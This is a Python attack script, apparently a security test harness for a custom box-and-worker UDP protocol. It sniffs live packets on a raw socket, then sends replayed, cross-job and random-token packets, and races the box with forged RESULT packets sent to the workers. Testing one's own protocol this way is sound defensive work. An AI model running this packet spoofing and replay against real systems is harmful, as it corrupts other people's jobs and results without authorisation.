#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""attacker.py - forge, replay and cross-job packets against a running box
and its workers.

Captures real PUSH packets of two jobs on the workers' data interface
(AF_PACKET), then for a bounded time sends, from its own UDP socket:
replays of captured packets (wrong source port), the same with another
job's id (cross-job), and packets with random tokens; and, for every PUSH
it goes on seeing, a RESULT of that segment and round with every element
666.0 and the sniffed token straight back to the worker that sent it,
racing the box (forged_result: a worker must take RESULTs only from the
box's endpoint). Prints how many of each it sent as JSON.
usage: attacker.py IFACE BOX_IP SECONDS"""
import json
import os
import random
import socket
import struct
import sys
import time

HDR = ">IBBBBIHHQIIIHH"
MAGIC = 0x50424F58


def capture(s, box_ip, limit, seconds):
    s.settimeout(0.2)
    box = socket.inet_aton(box_ip)
    got, jobs, end = [], set(), time.time() + seconds
    while time.time() < end and (len(got) < limit or len(jobs) < 2):
        try:
            f = s.recv(65535)
        except socket.timeout:
            continue
        if len(f) < 82 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[30:34] != box:
            continue
        p = f[42:]
        if len(p) >= 40 and struct.unpack(">I", p[:4])[0] == MAGIC and p[5] == 1:
            job = struct.unpack(">I", p[8:12])[0]
            if len(got) < limit or job not in jobs:
                got.append((p, struct.unpack(">H", f[36:38])[0]))
                jobs.add(job)
    return got, sorted(jobs)


def forge_results(s, box_ip, out, budget):
    """A forged RESULT for each PUSH to the box the socket has (at most
    budget frames looked at, without waiting): the count sent."""
    box, n = socket.inet_aton(box_ip), 0
    for _ in range(budget):
        try:
            f = s.recv(65535, socket.MSG_DONTWAIT)
        except (BlockingIOError, InterruptedError):
            break
        if len(f) < 82 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[30:34] != box:
            continue
        p = f[42:]
        if struct.unpack(">I", p[:4])[0] != MAGIC or p[5] != 1 or p[7] & 0x10:
            continue
        body = (b"\x00\x80\x26\x44" * ((len(p) - 40) // 4 + 1))[:len(p) - 40]
        r = p[:5] + b"\x02" + p[6:7] + b"\x00" + p[8:36] + b"\x00\x00\x00\x00" + body
        out.sendto(r, (socket.inet_ntoa(f[26:30]), struct.unpack(">H", f[34:36])[0]))
        n += 1
    return n


def main():
    iface, box_ip, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    cap.bind((iface, 0))
    pkts, jobs = capture(cap, box_ip, 200, 20)
    if len(jobs) < 2:
        print(json.dumps({"error": f"saw jobs {jobs}, need 2"}))
        sys.exit(1)
    cap.setblocking(False)   # forge_results takes what is there, never waits
    rng = random.Random(7)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = {"replay": 0, "cross_job": 0, "forged_token": 0, "forged_result": 0}
    end = time.time() + seconds
    while time.time() < end:
        p, dport = rng.choice(pkts)
        out.sendto(p, (box_ip, dport))
        sent["replay"] += 1
        other = [j for j in jobs if j != struct.unpack(">I", p[8:12])[0]][0]
        out.sendto(p[:8] + struct.pack(">I", other) + p[12:], (box_ip, dport))
        sent["cross_job"] += 1
        forged = p[:16] + os.urandom(8) + p[24:40] + os.urandom(len(p) - 40)
        out.sendto(forged, (box_ip, dport))
        sent["forged_token"] += 1
        sent["forged_result"] += forge_results(cap, box_ip, out, 64)
        time.sleep(0.0005)
    print(json.dumps({"captured": len(pkts), "jobs": jobs, "sent": sent}))


if __name__ == "__main__":
    main()
